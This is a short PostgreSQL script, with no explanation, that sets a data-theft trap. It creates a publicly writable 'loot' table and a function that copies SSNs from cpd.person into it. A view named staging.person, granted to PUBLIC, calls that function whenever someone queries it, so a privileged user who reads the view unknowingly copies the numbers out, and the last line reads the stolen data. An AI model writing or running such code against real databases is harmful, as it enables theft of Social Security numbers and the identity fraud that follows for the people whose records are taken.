CREATE TABLE staging.loot (line text);
GRANT INSERT ON staging.loot TO PUBLIC;
CREATE FUNCTION staging.take() RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO staging.loot SELECT ssn FROM cpd.person; RETURN true; END $$;
CREATE VIEW staging.person AS SELECT 1 AS id WHERE staging.take();
GRANT SELECT ON staging.person TO PUBLIC;
SELECT * FROM staging.loot;
